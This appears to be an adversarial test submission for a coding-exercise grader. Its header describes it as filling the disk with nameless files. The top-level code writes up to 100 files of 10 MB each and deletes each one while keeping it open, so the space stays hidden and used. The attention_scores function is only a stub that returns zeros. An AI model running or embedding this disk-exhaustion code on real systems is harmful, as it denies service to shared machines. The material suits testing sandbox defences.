# lesson: 01_einsum_scores
# points: 0
# kind: the disk is filled with files that have no name any more
# %% exercise-scores
import os
import time

import numpy as np

kept = []
try:
    for number in range(100):
        kept.append(open("file", "wb"))
        kept[-1].write(b"x" * 10**7)
        kept[-1].flush()
        os.remove("file")
        if number > 12:
            time.sleep(0.3)
except OSError as error:
    print(error)



def attention_scores(q, k):
    return np.zeros((len(q), q.shape[1], q.shape[2], k.shape[2]))
